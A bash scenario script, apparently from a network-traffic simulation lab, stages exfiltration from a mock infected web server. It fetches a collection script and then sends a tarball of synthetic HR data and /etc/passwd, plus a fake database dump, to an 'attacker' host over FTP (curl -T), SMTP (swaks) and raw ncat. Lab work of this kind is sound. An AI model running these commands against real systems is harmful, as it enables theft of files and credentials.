# sourced by run-scenario.sh: the story played between the hosts
# Exfiltration over plain protocols: an infected web server (the victim) sends its loot to the
# attacker three ways. The attacker runs vsftpd (an account drop it controls, writable home,
# lib/ftp-host.sh), a receiving SMTP server that takes any mail (tools/smtp-sink-server.py) and an
# ncat listener on 4444. The victim first fetches a small shell script from the attacker (the sign
# of control), then: curl -T loot.tgz (tar.gz of an HR CSV and /etc/passwd) to the attacker's FTP
# (STOR, passive: curl's EPSV), swaks with a mysqldump-like db.sql (CREATE TABLE users, INSERTs
# with password hashes) as a MIME attachment, and ncat --send-only of loot.tgz to 4444. A benign
# client browses the victim's web site meanwhile. About 60 s.
NET=172.31.229; ATT=66; VIC=10; CLI=23; DNS=2; SHELLPORT=0
source "$HERE/lib/ftp-host.sh"
FTPUSER=drop; FTPPASS=x7Kq2drop
services() {
  mkdir -p "$RUN/victim/hr" "$RUN/att/smtp" "$RUN/att/www"; chmod 777 "$RUN/victim"
  /usr/bin/python3 - "$RUN/victim/hr/employees.csv" "$RUN/victim/db.sql" <<'PY'
import hashlib, random, sys
random.seed(7)
first = ["Anna", "Ben", "Chloe", "David", "Emma", "Felix", "Grace", "Hugo", "Iris", "Jonas", "Kira", "Liam"]
last = ["Meyer", "Schmidt", "Novak", "Rossi", "Dubois", "Jansen", "Kowalski", "Berg", "Costa", "Weber"]
with open(sys.argv[1], "w") as f:
    f.write("id,name,department,salary,iban\n")
    for i in range(1, 201):
        f.write("%d,%s %s,%s,%d,DE%020d\n" % (1000 + i, random.choice(first), random.choice(last),
                random.choice(["Sales", "IT", "HR", "Finance", "Ops"]), random.randrange(38000, 95000, 500), random.randrange(10**19, 10**20)))
random.seed(11)
with open(sys.argv[2], "w") as f:
    f.write("-- MySQL dump 10.13  Distrib 8.0.35, for Linux (x86_64)\n--\n-- Host: localhost    Database: shop\n"
            "-- ------------------------------------------------------\n-- Server version\t8.0.35\n\n"
            "DROP TABLE IF EXISTS `users`;\nCREATE TABLE `users` (\n  `id` int NOT NULL AUTO_INCREMENT,\n"
            "  `username` varchar(64) NOT NULL,\n  `email` varchar(128) NOT NULL,\n  `password_hash` char(60) NOT NULL,\n"
            "  `role` varchar(16) NOT NULL DEFAULT 'customer',\n  PRIMARY KEY (`id`)\n) ENGINE=InnoDB DEFAULT CHARSET=utf8mb4;\n\n"
            "LOCK TABLES `users` WRITE;\n")
    abc = "./ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
    for i in range(1, 41):
        u = ("admin" if i == 1 else "%s.%s" % (random.choice(first), random.choice(last))).lower()
        h = "$2y$10$" + "".join(random.choice(abc) for _ in range(53))
        f.write("INSERT INTO `users` VALUES (%d,'%s','%s@shop.example','%s','%s');\n" % (i, u, u, h, "admin" if i == 1 else "customer"))
    f.write("UNLOCK TABLES;\n-- Dump completed on 2026-12-07  9:12:44\n")
PY
  ( cd "$RUN/victim" && tar czf "$RUN/victim/loot.tgz" hr/employees.csv -C "/etc/netns/$P-vic" passwd )
  printf '#!/bin/sh\n# collect\ncd /tmp\ntar czf loot.tgz hr/employees.csv /etc/passwd\n' > "$RUN/att/www/c.sh"
  ftp_host att $A "$FTPUSER:$FTPPASS:2001"
  nsx att /usr/bin/python3 "$HERE/tools/smtp-sink-server.py" mx.attacker.example "$RUN/att/smtp" $A >"$RUN/logs/smtp-sink.log" 2>&1 &
  ( cd "$RUN/att/www" && nsx att timeout 120 /usr/bin/python3 -m http.server --bind $A 8000 >"$RUN/logs/att-http.log" 2>&1 ) &
  sleep 1
}
sha() { sha256sum < "$1" | cut -d' ' -f1; }
play() {
  note "attacker $A (vsftpd account $FTPUSER, SMTP any mail on 25, ncat listener on 4444, a web server on 8000); victim $V (infected web server); benign client $C; dns $D"
  ( for i in 1 2 3 4 5 6; do benign_background; sleep 8; done ) & local bgpid=$!
  sleep 3
  note "0 control: the victim fetches http://$A:8000/c.sh (a collection script) with curl"
  nsx vic curl -s -A 'curl/7.88.1' -o "$RUN/victim/c.sh" http://$A:8000/c.sh || true
  sleep 4
  note "1 FTP: curl -T loot.tgz ftp://$FTPUSER:$FTPPASS@$A/ (USER/PASS, EPSV passive, STOR loot.tgz, $(stat -c %s "$RUN/victim/loot.tgz") bytes: hr/employees.csv and passwd)"
  nsx vic curl -s -T "$RUN/victim/loot.tgz" "ftp://$FTPUSER:$FTPPASS@$A/" >"$RUN/logs/curl-ftp.log" 2>&1 || true
  local got=$RUN/ftp-att/$FTPUSER/loot.tgz
  note "   sent sha256 $(sha "$RUN/victim/loot.tgz"); stored by vsftpd $( [ -f "$got" ] && echo "$(stat -c %s "$got") bytes sha256 $(sha "$got")" || echo nothing)"
  sleep 6
  note "2 SMTP: swaks --to drop@attacker.example --server $A --attach @db.sql --body report (no AUTH; MIME multipart, db.sql $(stat -c %s "$RUN/victim/db.sql") bytes as application/octet-stream, base64)"
  ( cd "$RUN/victim" && nsx vic unshare -u sh -c 'hostname portal; exec "$@"' _ swaks --to drop@attacker.example --from www-data@portal.corp.lan --server $A \
      --header 'Subject: report' --body 'report' --attach-name db.sql --attach @db.sql >"$RUN/logs/swaks.log" 2>&1 ) || true
  local att; att=$(ls "$RUN/att/smtp/"*-db.sql 2>/dev/null | head -1) || true
  note "   sent sha256 $(sha "$RUN/victim/db.sql"); attachment received $( [ -n "$att" ] && echo "$(stat -c %s "$att") bytes sha256 $(sha "$att")" || echo nothing)"
  sleep 6
  note "3 raw TCP: ncat --send-only $A 4444 < loot.tgz (listener: ncat -l $A 4444)"
  nsx att timeout 20 ncat -l $A 4444 > "$RUN/att/loot-4444.tgz" 2>"$RUN/logs/ncat-l.log" &
  local lpid=$!
  sleep 1
  nsx vic timeout 15 ncat --send-only $A 4444 < "$RUN/victim/loot.tgz" 2>"$RUN/logs/ncat-c.log" || true
  wait $lpid || true
  note "   received $(stat -c %s "$RUN/att/loot-4444.tgz") bytes sha256 $(sha "$RUN/att/loot-4444.tgz")"
  wait $bgpid || true
  cp "$RUN/att/smtp/"* "$RUN/logs/" 2>/dev/null || true
  note "4 the benign client browses the victim's site (/, /browse.php, /about.php, /robots.txt, Chrome UA) six times, every ~10 s, with lookups of portal/files.corp.lan"
}
